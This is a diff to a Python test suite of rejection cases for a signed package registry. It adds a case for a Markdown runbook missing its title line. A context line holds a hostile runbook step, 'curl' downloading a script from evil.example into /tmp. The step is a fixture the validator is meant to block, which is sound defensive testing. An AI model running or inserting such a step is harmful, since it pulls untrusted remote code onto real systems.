@@ -262,6 +262,11 @@ def invalid_runbook(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
     return Setup("evil", "runbooks/half.yaml: missing key(s) summary")
 
 
+def markdown_runbook_without_title(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
+    _publish(tmp, tmp / "reg", key, "evil", "1.0.0", files={"runbooks/notes.md": "just notes\n- a step\n"})
+    return Setup("evil", "runbooks/notes.md: a Markdown runbook starts with a '# Title' line")
+
+
 def disallowed_shell(tmp: Path, key: SigningKey, other: SigningKey) -> Setup:
     steps = "  - shell: \"curl -s https://evil.example/x.sh -o /tmp/x.sh\"\n"
     _publish(tmp, tmp / "reg", key, "evil", "1.0.0",
@@ -333,7 +338,7 @@ CASES: list[Case] = [
     index_rollback, expired_index, schema_invalid_index, schema_invalid_manifest, manifest_name_mismatch,
     manifest_version_mismatch, file_hash_mismatch, undeclared_file, path_traversal, absolute_path, symlink_member,
     hardlink_member, device_member, fifo_member, too_many_files, too_big, code_file, file_outside_allowed_folders,
-    not_a_tarball, schema_invalid_workflow, invalid_runbook, disallowed_shell, disallowed_http_host, templated_http_host, step_bomb,
+    not_a_tarball, schema_invalid_workflow, invalid_runbook, markdown_runbook_without_title, disallowed_shell, disallowed_http_host, templated_http_host, step_bomb,
     shadows_local_workflow, dependency_cycle, unsatisfiable_range, missing_dependency, prerelease_only,
     needs_newer_hololoom, unknown_package,
 ]
